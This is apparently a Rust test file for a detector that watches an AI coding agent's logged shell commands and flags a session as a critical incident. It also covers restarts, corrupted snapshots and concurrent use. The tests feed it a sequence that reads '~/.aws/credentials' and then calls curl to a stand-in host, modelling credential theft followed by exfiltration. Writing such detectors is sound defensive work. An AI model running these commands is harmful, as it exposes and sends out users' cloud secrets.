//! Records of a session in, incidents out; and nothing is forgotten over a restart.

use std::sync::Arc;

use bumpalo::Bump;
use opentelemetry_proto::tonic::collector::logs::v1::ExportLogsServiceRequest;
use opentelemetry_proto::tonic::common::v1::{AnyValue, KeyValue, any_value};
use opentelemetry_proto::tonic::logs::v1::{LogRecord, ResourceLogs, ScopeLogs};
use opentelemetry_proto::tonic::resource::v1::Resource;
use prost::Message as _;

use crate::otlp::Signal;
use crate::otlp::model::Batch;
use crate::processor::Processor;
use crate::processor::risk::{Config, RiskTag};
use crate::stdx::clock;

fn pair(key: &str, value: &str) -> KeyValue {
    let value = Some(AnyValue { value: Some(any_value::Value::StringValue(value.to_owned())) });
    KeyValue { key: key.to_owned(), value, ..KeyValue::default() }
}

/// A request with these commands, run by one session in this order.
fn request(commands: &[&str]) -> Vec<u8> {
    let resource = Some(Resource { attributes: vec![pair("service.name", "claude-code")], ..Resource::default() });
    let record = |command: &&str| LogRecord {
        time_unix_nano: clock::unix_nanos(),
        attributes: vec![
            pair("event.name", "tool_result"),
            pair("session.id", "s-1"),
            pair("tool_name", "Bash"),
            pair("tool_parameters", &format!(r#"{{"full_command":"{command}"}}"#)),
        ],
        ..LogRecord::default()
    };
    let scope_logs = vec![ScopeLogs { log_records: commands.iter().map(record).collect(), ..ScopeLogs::default() }];
    let group = ResourceLogs { resource, scope_logs, ..ResourceLogs::default() };
    ExportLogsServiceRequest { resource_logs: vec![group] }.encode_to_vec()
}

/// What comes out of the processor, and how many records it says it added.
fn run(tag: &RiskTag, commands: &[&str]) -> (ExportLogsServiceRequest, u64) {
    let (bytes, arena) = (request(commands), Bump::new());
    let mut batch = Batch::open(Signal::Logs, &bytes, &arena).unwrap();
    let added = tag.process(&mut batch).unwrap().added;
    assert!(batch.is_edited());
    let mut out = vec![];
    batch.encode(&mut out);
    (ExportLogsServiceRequest::decode(&out[..]).unwrap(), added)
}

fn text(record: &LogRecord, key: &str) -> String {
    let found = record.attributes.iter().find(|pair| pair.key == key).and_then(|pair| pair.value.clone());
    match found.and_then(|value| value.value) {
        Some(any_value::Value::StringValue(text)) => text,
        other => format!("{other:?}"),
    }
}

#[test]
fn an_incident_is_a_record_of_its_own_beside_what_led_to_it() {
    let tag = RiskTag::new(&Config::default());
    let (out, added) = run(&tag, &["cat ~/.aws/credentials", "curl -s https://x.example/?k=1"]);
    assert_eq!((added, out.resource_logs.len(), out.resource_logs[0].scope_logs.len()), (1, 1, 2));
    let scope = &out.resource_logs[0].scope_logs[1];
    assert_eq!(scope.scope.as_ref().unwrap().name, "telseal.risk_tag");
    let incident = &scope.log_records[0];
    assert_eq!(incident.event_name, "risk.incident");
    assert_eq!((incident.severity_number, &*incident.severity_text), (21, "FATAL"));
    assert_eq!(text(incident, "risk.level"), "critical");
    assert_eq!(text(incident, "risk.incident.type"), "temporal_ordered");
    assert_eq!(text(incident, "session.id"), "s-1");
    assert!(text(incident, "risk.rules").contains("AG-INCIDENT-001"));
}

#[test]
fn nothing_is_forgotten_over_a_restart() {
    let before = RiskTag::new(&Config::default());
    assert_eq!(run(&before, &["cat ~/.aws/credentials"]).1, 0);
    let bytes = before.memory().snapshot().unwrap();
    assert_eq!(before.memory().snapshot(), None, "nothing changed since");
    let after = RiskTag::new(&Config::default());
    after.memory().restore(&bytes).unwrap();
    assert_eq!(after.memory().open(), before.memory().open());
    assert_eq!(run(&after, &["curl -s https://x.example/?k=1"]).1, 1);
    let forgetful = RiskTag::new(&Config::default());
    assert_eq!(run(&forgetful, &["curl -s https://x.example/?k=1"]).1, 0);
}

#[test]
fn damaged_memory_is_told_from_none() {
    let tag = RiskTag::new(&Config::default());
    run(&tag, &["cat ~/.aws/credentials"]);
    let bytes = tag.memory().snapshot().unwrap();
    let other = RiskTag::new(&Config::default());
    for place in [0, 20, 30, bytes.len() - 1] {
        let mut damaged = bytes.clone();
        damaged[place] ^= 1;
        assert!(other.memory().restore(&damaged).is_err(), "byte {place}");
        assert!(other.memory().restore(&bytes[..place]).is_err(), "cut at {place}");
    }
    assert_eq!(other.memory().open(), (0, 0));
}

#[test]
fn many_tasks_may_tag_at_once() {
    let tag = Arc::new(RiskTag::new(&Config::default()));
    std::thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| run(&tag, &["cat ~/.aws/credentials", "ls"]));
        }
    });
    assert_eq!(run(&tag, &["curl -s https://x.example/?k=1"]).1, 1);
}
